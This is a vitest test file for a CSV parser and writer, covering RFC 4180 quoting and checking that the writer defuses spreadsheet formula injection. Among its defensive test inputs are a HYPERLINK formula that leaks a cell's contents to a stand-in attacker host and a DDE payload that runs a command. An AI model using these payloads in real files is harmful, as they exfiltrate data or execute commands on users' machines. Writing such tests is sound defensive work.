import { describe, expect, it } from 'vitest';
import { CsvError, parseCsv, toCsv } from '../../../worker/domain/csv';

describe('parseCsv (RFC 4180)', () => {
  it('reads quoted fields with commas, doubled quotes and line breaks', () => {
    expect(parseCsv('a,"b, c","say ""hi""","two\nlines"\r\n1,2,3,4\r\n')).toEqual([
      ['a', 'b, c', 'say "hi"', 'two\nlines'],
      ['1', '2', '3', '4'],
    ]);
  });

  it('keeps empty fields and ignores a byte-order mark', () => {
    expect(parseCsv('\uFEFFx,,z\n,,')).toEqual([
      ['x', '', 'z'],
      ['', '', ''],
    ]);
  });

  it('rejects an unterminated quote', () => {
    expect(() => parseCsv('a,"open\n')).toThrow(CsvError);
  });
});

describe('toCsv', () => {
  it('quotes only what needs quoting and round-trips through parseCsv', () => {
    const rows = [
      ['Sales, EMEA', 'plain', 3, null],
      ['quote "q"', 'line\nbreak', true, 0.5],
    ] as const;

    const csv = toCsv(['group', 'note', 'n', 'rate'], rows);

    expect(csv.split('\r\n')[1]).toBe('"Sales, EMEA",plain,3,');
    expect(parseCsv(csv)).toEqual([
      ['group', 'note', 'n', 'rate'],
      ['Sales, EMEA', 'plain', '3', ''],
      ['quote "q"', 'line\nbreak', 'true', '0.5'],
    ]);
  });
});

describe('toCsv neutralises formulas (OWASP, CSV injection)', () => {
  const cell = (value: string | number) => parseCsv(toCsv(['x'], [[value]]))[1]![0];

  it.each([
    ['=HYPERLINK("http://attacker.example/?leak="&A2,"Open")'],
    ['+1+1'],
    ['-2+3'],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('a text cell starting like a formula is read as text: %j', (text) => {
    const csv = toCsv(['x'], [[text]]);

    expect(csv.split('\r\n')[1]!.startsWith(`"'`)).toBe(true);
    expect(cell(text)).toBe(`'${text}`);
  });

  it('leaves numbers as numbers (a negative change is not a formula) and other text as it was', () => {
    expect(toCsv(['change', 'name'], [[-0.4, 'Ana = Bo']])).toBe('change,name\r\n-0.4,Ana = Bo\r\n');
  });
});
